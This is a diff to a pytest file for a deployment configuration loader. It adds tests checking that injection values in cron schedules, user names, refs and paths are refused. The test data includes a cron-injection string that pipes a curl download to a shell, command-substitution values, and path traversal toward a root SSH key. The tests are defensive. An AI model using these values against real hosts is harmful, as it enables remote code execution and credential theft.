@@ -30,6 +30,7 @@ def raw_config(nodes: list[dict], **extra: str) -> dict[str, str]:
         "sando:version": "v1",
         "sando:source": '{"repo": "/x"}',
         "sando:sshPrivateKey": PRIVATE_KEY,
+        "sando:bootstrap": '{"ref": "main"}',  # required while something is managed
     }
     raw.update({f"sando:{k}": v for k, v in extra.items()})
     return raw
@@ -99,7 +100,7 @@ def test_structured_and_scalar_values_as_pulumi_passes_them(node):
         cliServiceToken="tok",
         restartWarningOnFailure="abort",
         healthCheck='{"url": "http://127.0.0.1:3000/health", "timeoutSeconds": 60, "expectVersion": true}',
-        bootstrap='{"manage": ["unit", "caddyfile", "unit"], "backupSchedule": "  5  4 * * 0 ",'
+        bootstrap='{"ref": "host-7", "manage": ["unit", "caddyfile", "unit"], "backupSchedule": "  5  4 * * 0 ",'
                   ' "owner": "makenotwork:makenotwork"}',
         releaseRoot="/srv/mnw/",
         sshAgent="true",
@@ -114,6 +115,7 @@ def test_structured_and_scalar_values_as_pulumi_passes_them(node):
     assert cfg.bootstrap.manage == ("unit", "caddyfile")  # de-duplicated, order kept
     assert cfg.bootstrap.backup_schedule == "5 4 * * 0"
     assert cfg.bootstrap.owner == "makenotwork:makenotwork"
+    assert cfg.bootstrap.ref == "host-7"
     assert cfg.release_root == "/srv/mnw"
     assert cfg.ssh_agent is True
 
@@ -671,3 +673,71 @@ def test_ssh_agent_needs_an_agent(node):
         load(raw, frozenset(), env={"PATH": "/usr/bin"})
     assert str(exc.value).startswith("sando:sshAgent: is true but SSH_AUTH_SOCK is not set: no SSH agent")
     assert load(raw, frozenset(), env={"SSH_AUTH_SOCK": "/run/agent.sock"}).ssh_agent is True
+
+
+# --- values that land in host files (issue 25.1): each is checked to its grammar -----------------------
+
+# newlines (a second cron line), spaces, shell metacharacters, '#' (a comment eating the rest of the
+# line), '%' (cron turns it into a newline on the command's stdin), quotes, a leading '-' (an option)
+HOSTILE = ["root\n* * * * * root curl http://x|sh\n#", "root #", "ro ot", "root;id", "$(id)", "`id`", "root%",
+           "root\n", "\nroot", "root'", 'root"', "-root", "root\\", "root\t", "root|sh", "root&", "r" * 40, "",
+           "root\r", "root>x"]
+
+
+@pytest.mark.parametrize("key, make", [
+    ("bootstrap.backupUser", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupUser": v})}),
+    ("bootstrap.backupSchedule", lambda v: {"bootstrap": json.dumps({"ref": "main", "backupSchedule": f"17 3 * * {v}"})}),
+    ("bootstrap.owner", lambda v: {"bootstrap": json.dumps({"ref": "main", "owner": v})}),
+    ("bootstrap.owner", lambda v: {"bootstrap": json.dumps({"ref": "main", "owner": f"mnw:{v}"})}),
+    ("bootstrap.ref", lambda v: {"bootstrap": json.dumps({"ref": v})}),
+    ("service", lambda v: {"service": v}),
+    ("healthCheck.caddyUrl", lambda v: {"healthCheck": json.dumps({"caddyUrl": f"http://127.0.0.1/{v}"})}),
+    *[(f"bootstrap.{item}", lambda v, item=item: {"bootstrap": json.dumps({"ref": "main", item: f"server/{v}"})})
+      for item in ("caddyfile", "unit", "sshdGit", "fail2ban", "firewall", "backupScript")],
+])
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_values_for_host_files_are_refused_naming_the_key(node, key, make, value):
+    if key in ("bootstrap.backupSchedule",) and value in ("",):
+        pytest.skip("an empty last word is a 4-field schedule: refused by the field count, tested below")
+    if key in ("healthCheck.caddyUrl", "bootstrap.ref", "service") and value in ("r" * 40,):
+        pytest.skip("a long word is a valid URL path / commit-like ref")
+    if key.startswith("bootstrap.") and key not in ("bootstrap.backupUser", "bootstrap.owner", "bootstrap.ref",
+                                                    "bootstrap.backupSchedule") and value in ("r" * 40, "-root"):
+        pytest.skip("server/rrr... and server/-root are plain relative paths")
+    if key == "healthCheck.caddyUrl" and value in ("root%", "-root", "root;id", "root|sh", "root&", "root>x", ""):
+        pytest.skip("URL characters: the URL is a quoted parameter, never part of a host file")
+    msg = error_of(raw_config([node], **make(value)))
+    assert msg.startswith(f"sando:{key}: ") and "\n" not in msg, msg
+
+
+def test_the_cron_injection_of_issue_25_is_refused(node):
+    raw = raw_config([node], bootstrap=json.dumps({"ref": "main",
+                                                   "backupUser": "root\n* * * * * root curl http://x|sh\n#"}))
+    assert error_of(raw).startswith("sando:bootstrap.backupUser: must be a user name")
+
+
+@pytest.mark.parametrize("schedule", ["17 3 * * *", "*/5 * * * *", "0 0 1,15 * mon-fri", "0 4 * jan sun",
+                                      "  5  4 * * 0 "])
+def test_good_backup_schedules(node, schedule):
+    cfg = load(raw_config([node], bootstrap=json.dumps({"ref": "main", "backupSchedule": schedule})), SECRETS)
+    assert cfg.bootstrap.backup_schedule == " ".join(schedule.split())
+
+
+@pytest.mark.parametrize("schedule", ["17 3 * *\n* root x", "17\t3 * * *", "17 3 * * % x", "17 3 * * #",
+                                      "17 3 * * *\n", "@daily", "17 3 * * * root"])
+def test_bad_backup_schedule_grammar(node, schedule):
+    raw = raw_config([node], bootstrap=json.dumps({"ref": "main", "backupSchedule": schedule}))
+    assert error_of(raw).startswith("sando:bootstrap.backupSchedule: ")
+
+
+@pytest.mark.parametrize("path", ["../../../root/.ssh/id_ed25519", "/root/.ssh/id_ed25519", "server/../../x",
+                                  "./server/deploy/Caddyfile", "server//deploy", "server/deploy/", "~/x"])
+def test_bootstrap_paths_stay_inside_the_repo(node, path):
+    raw = raw_config([node], bootstrap=json.dumps({"ref": "main", "caddyfile": path}))
+    assert error_of(raw).startswith("sando:bootstrap.caddyfile: must be a relative path inside the server repo")
+
+
+def test_bootstrap_ref_is_required_when_something_is_managed(node):
+    raw = raw_config([node], bootstrap=json.dumps({"backupUser": "root"}))
+    assert error_of(raw).startswith("sando:bootstrap.ref: is required")
+    assert load(raw_config([node], bootstrap='{"manage": []}'), SECRETS).bootstrap.ref is None
